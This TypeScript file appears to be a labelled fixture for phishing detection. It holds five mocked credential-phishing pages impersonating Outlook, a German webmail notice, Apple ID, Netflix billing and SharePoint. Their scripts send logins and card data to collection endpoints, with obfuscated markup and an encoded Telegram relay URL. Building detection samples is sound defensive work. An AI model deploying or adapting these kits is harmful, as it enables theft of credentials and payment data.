import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

const m365Kit = `<div class="bx"><img src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI" font-size="15" fill="#737373">Microsoft</text></svg>')}" alt="Microsoft">
<div id="s1"><h1>Sign in</h1><p class="sub">to continue to Outlook</p><input id="em" type="email" placeholder="Email, phone, or Skype"><p class="sm">No account? <a href="#">Create one!</a></p><p class="sm"><a href="#">Can't access your account?</a></p><button id="n1">Next</button></div>
<div id="s2" style="display:none"><p id="who" class="sm"></p><h1>Enter password</h1><input id="pw" type="password" placeholder="Password"><p id="er" class="er"></p><p class="sm"><a href="#">Forgot my password</a></p><button id="n2">Sign in</button></div></div>
<div class="opt">🔑 Sign-in options</div>`;

export const entries: Entry[] = [
{
  id: 'j-phish-m365-outlook-obfuscated',
  label: 'phishing',
  kind: 'cred-phish',
  url: 'https://secure-docs-review.azurewebsites-portal.com/o365/?e=bWFyay5oYWxsQGNvbnRvc28tZXhhbXBsZS5jb20=',
  routes: {
    'secure-docs-review.azurewebsites-portal.com/o365/': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#83;&#105;&#103;&#110;&#32;&#105;&#110;&#32;&#116;&#111;&#32;&#121;&#111;&#117;&#114;&#32;&#97;&#99;&#99;&#111;&#117;&#110;&#116;</title>
<style>body{margin:0;background:#f2f2f2 url(/o365/bg.png);font-family:"Segoe UI",Arial;display:flex;flex-direction:column;align-items:center}.bx{background:#fff;width:440px;margin-top:80px;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600;margin:16px 0 4px}.sub{margin:0 0 12px;font-size:15px}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0;outline:0}.sm{font-size:13px}.sm a{color:#0067b8}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}.er{color:#e81123;font-size:13px}.opt{background:#fff;width:440px;margin-top:16px;padding:12px 44px;font-size:15px;box-shadow:0 2px 6px rgba(0,0,0,.2)}</style></head>
<body><div id="app"></div>
<script>var _p="${b64(m365Kit)}";document.getElementById("app").innerHTML=decodeURIComponent(escape(atob(_p)));</script>
<script src="/o365/js/jquery-3.7.1.min.js"></script><script src="/o365/js/app.js?v=4.2"></script></body></html>`),
    'secure-docs-review.azurewebsites-portal.com/o365/bg.png': logo(242, 242, 242),
    'secure-docs-review.azurewebsites-portal.com/o365/js/jquery-3.7.1.min.js': jsRoute('/*! jQuery v3.7.1 stub */window.jQuery=window.$=function(s){return document.querySelector(s)};'),
    'secure-docs-review.azurewebsites-portal.com/o365/js/app.js': jsRoute(`(function(){var q=new URLSearchParams(location.search),e=q.get("e");try{e=atob(e)}catch(x){}if(e){document.getElementById("em").value=e}
var tries=0,tg=["${b64('https://api.telegram-relay.click/bot7712093344:AAF3kq/sendMessage')}","-100219874412"];
document.getElementById("n1").onclick=function(){var v=document.getElementById("em").value;if(!/^\\S+@\\S+\\.\\S+$/.test(v))return;document.getElementById("s1").style.display="none";document.getElementById("s2").style.display="block";document.getElementById("who").textContent=v};
document.getElementById("n2").onclick=function(){var d={u:document.getElementById("em").value,p:document.getElementById("pw").value,ua:navigator.userAgent,t:++tries};
fetch("/o365/next.php",{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:new URLSearchParams(d)}).then(function(){if(tries<2){document.getElementById("er").textContent="Your account or password is incorrect. If you don't remember your password, reset it now.";document.getElementById("pw").value=""}else{location.href="https://outlook.office.com/mail/"}})}})();`),
    'secure-docs-review.azurewebsites-portal.com/o365/next.php': jsonRoute({ status: 'ok' }),
  },
},
{
  id: 'j-phish-webmail-postfach-de',
  label: 'phishing',
  kind: 'webmail-phish',
  url: 'https://mail-kontingent-erweitern.de-service-center.info/webmail/upgrade.php?domain=stadtwerke-ostheim.de',
  routes: {
    'mail-kontingent-erweitern.de-service-center.info/webmail/upgrade.php': htmlRoute(doc({
      lang: 'de',
      title: 'Webmail - Postfach Speicherplatz',
      style: `body{background:#eef1f5}.b{max-width:460px;margin:60px auto;background:#fff;border-radius:6px;box-shadow:0 2px 10px rgba(0,0,0,.1);padding:30px}.bar{height:14px;background:#eee;border-radius:7px}.bar div{height:14px;width:98%;background:#d9302c;border-radius:7px}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px}button{width:100%;background:#2a6ebb;color:#fff;border:0;padding:12px;border-radius:4px;font-size:15px}`,
      body: `<div class="b"><h2 id="dom">Webmail</h2><p><b>Ihr Postfach ist zu 98 % voll</b> (1,96 GB von 2 GB). Neue E-Mails werden ab dem <b id="dt"></b> zurückgewiesen und ältere Nachrichten können gelöscht werden.</p>
<div class="bar"><div></div></div><p style="font-size:13px">Melden Sie sich an, um Ihr Kontingent kostenlos auf 10 GB zu erweitern.</p>
<form id="f" method="post" action="/webmail/post.php"><input name="email" id="em" placeholder="E-Mail-Adresse" type="email"><input name="passwort" type="password" placeholder="Passwort"><button>Speicher jetzt erweitern</button></form>
<p style="font-size:11px;color:#888">© 2026 Webmail Administrator. Alle Rechte vorbehalten. Diese Nachricht wurde automatisch erstellt.</p></div>
<script>var d=new URLSearchParams(location.search).get('domain')||'';document.getElementById('dom').textContent=d+' Webmail';document.getElementById('em').placeholder='name@'+d;var t=new Date(Date.now()+864e5);document.getElementById('dt').textContent=t.toLocaleDateString('de-DE');
document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fetch('/webmail/post.php',{method:'POST',body:fd}).finally(function(){location.href='https://'+d})}</script>`,
    })),
    'mail-kontingent-erweitern.de-service-center.info/webmail/post.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'j-phish-apple-id-fr',
  label: 'phishing',
  kind: 'brand-phish',
  url: 'https://verification-identifiant.apple-id-securite.fr/fr/signin?session=a81f4e',
  routes: {
    'verification-identifiant.apple-id-securite.fr/fr/signin': htmlRoute(doc({
      lang: 'fr',
      title: 'Identifiant Apple',
      style: `body{font-family:-apple-system,"SF Pro Text","Helvetica Neue";background:#fff;text-align:center}nav{background:#f5f5f7;padding:10px;font-size:13px}.b{max-width:380px;margin:50px auto}input{width:100%;padding:14px;border:1px solid #d2d2d7;border-radius:12px;margin:6px 0;font-size:16px}button{width:100%;background:#0071e3;color:#fff;border:0;padding:13px;border-radius:12px;font-size:16px;margin-top:10px}.n{background:#fff8e1;padding:10px;border-radius:8px;font-size:14px;text-align:left}`,
      body: `<nav> Identifiant Apple &nbsp; · Se connecter · Créer votre identifiant Apple · FAQ</nav>
<div class="b"><h1 style="font-weight:600">Identifiant Apple</h1><div class="n">Votre identifiant Apple a été verrouillé pour des raisons de sécurité. Une connexion inhabituelle a été détectée depuis <b>Lagos, Nigeria</b>. Confirmez votre identité pour le déverrouiller.</div>
<form id="a"><input placeholder="Adresse e-mail ou numéro de téléphone" name="appleId"><input type="password" placeholder="Mot de passe" name="pwd"><button>Continuer</button></form>
<form id="b" style="display:none;text-align:left"><h3>Vérifiez vos informations de paiement</h3><input name="nom" placeholder="Nom complet"><input name="dob" placeholder="Date de naissance (JJ/MM/AAAA)"><input name="cc" placeholder="Numéro de carte" autocomplete="cc-number"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme (CVV)"><button>Déverrouiller mon compte</button></form>
<p style="font-size:12px;color:#86868b">Copyright © 2026 Apple Inc. Tous droits réservés. Politique de confidentialité</p></div>
<script>document.getElementById('a').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/fr/s.php',new FormData(this));this.style.display='none';document.getElementById('b').style.display='block'};document.getElementById('b').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/fr/s.php',new FormData(this));location.href='https://www.apple.com/fr/'}</script>`,
    })),
  },
},
{
  id: 'j-phish-netflix-payment-it',
  label: 'phishing',
  kind: 'brand-phish',
  url: 'https://netflix-it.account-aggiornamento.com/it/account/pagamento',
  routes: {
    'netflix-it.account-aggiornamento.com/it/account/pagamento': htmlRoute(doc({
      lang: 'it',
      title: 'Netflix',
      style: `body{background:#fff}header{padding:20px 40px;border-bottom:1px solid #e6e6e6;color:#e50914;font-weight:900;font-size:30px;letter-spacing:1px}.b{max-width:440px;margin:30px auto;padding:0 16px}input{width:100%;padding:14px;border:1px solid #8c8c8c;border-radius:4px;margin:6px 0}button{width:100%;background:#e50914;color:#fff;border:0;padding:16px;font-size:18px;border-radius:4px;margin-top:14px}`,
      body: `<header>NETFLIX</header><div class="b"><p style="font-size:13px">PASSAGGIO 1 DI 1</p><h1>Aggiorna il metodo di pagamento</h1><p>Non siamo riusciti ad addebitare il tuo abbonamento <b>Premium</b>. La tua iscrizione verrà sospesa se non aggiorni i dati entro 24 ore.</p>
<form id="f" action="/it/account/pagamento/invia.php" method="post"><input name="nome" placeholder="Nome sul titolare"><input name="carta" placeholder="Numero di carta" inputmode="numeric" autocomplete="cc-number"><div style="display:flex;gap:8px"><input name="scad" placeholder="Data di scadenza (MM/AA)"><input name="cvv" placeholder="CVV"></div><input name="cf" placeholder="Codice fiscale"><button>Aggiorna pagamento</button></form>
<p style="font-size:12px;color:#737373">I pagamenti saranno addebitati con cadenza mensile. Puoi disdire online in qualsiasi momento. Domande? Chiama 800 787 376</p></div>
<script>document.querySelector('[name=carta]').addEventListener('input',function(){this.value=this.value.replace(/\\D/g,'').replace(/(.{4})/g,'$1 ').trim()})</script>`,
    })),
    'netflix-it.account-aggiornamento.com/it/account/pagamento/invia.php': htmlRoute('<html><head><meta http-equiv="refresh" content="2;url=https://www.netflix.com/it/"></head><body>Grazie! Il tuo account è stato aggiornato.</body></html>'),
  },
},
{
  id: 'j-phish-sharepoint-redirect-chain',
  label: 'phishing',
  kind: 'cred-phish',
  url: 'https://t.co-redir.net/r/7KqLmX?u=ap%40fennwick-example.com',
  routes: {
    't.co-redir.net/r/7KqLmX': redirectRoute(302, 'https://storage-shared-files.web-view-doc.com/sp/Fennwick_Q4_Payroll_Adjustments.html#ap@fennwick-example.com'),
    'storage-shared-files.web-view-doc.com/sp/Fennwick_Q4_Payroll_Adjustments.html': htmlRoute(doc({
      title: 'SharePoint Online',
      style: `body{background:#faf9f8}header{background:#036c70;color:#fff;padding:10px 20px}.f{max-width:520px;margin:50px auto;background:#fff;border:1px solid #e1dfdd;padding:30px;text-align:center}.f input{width:100%;padding:10px;margin:6px 0;border:1px solid #8a8886}.f button{background:#0078d4;color:#fff;border:0;padding:10px 20px}`,
      body: `<header>SharePoint</header><div class="f"><p>📄 <b>Fennwick_Q4_Payroll_Adjustments.xlsx</b></p><p>shared by <b>HR Department</b> · 38.2 KB</p><p>This file is protected. To open it, confirm the email address this file was shared with, and sign in.</p>
<form id="f"><input id="e" type="email" readonly><input id="p" type="password" placeholder="Password"><button>Open</button></form><p id="x" style="color:#a4262c;font-size:13px"></p></div>
<script>var e=location.hash.slice(1);document.getElementById('e').value=e;
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://storage-shared-files.web-view-doc.com/sp/auth.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('login='+encodeURIComponent(e)+'&passwd='+encodeURIComponent(document.getElementById('p').value));document.getElementById('x').textContent='Incorrect password. Please try again.'}</script>`,
    })),
    'storage-shared-files.web-view-doc.com/sp/auth.php': jsonRoute({ s: 0 }),
  },
},
];
